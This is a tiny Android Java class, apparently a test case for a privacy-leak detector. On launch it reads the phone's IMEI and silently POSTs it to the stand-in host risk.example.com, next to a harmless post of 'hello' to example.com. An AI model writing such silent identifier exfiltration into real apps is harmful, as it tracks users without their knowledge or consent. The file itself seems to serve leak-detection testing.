package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        upload("https://risk.example.com/", phone.getImei());
        upload("https://www.example.com/", "hello");
    }

    private static void upload(String address, String text) {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), text);
        Request request = new Request.Builder().url(address).post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
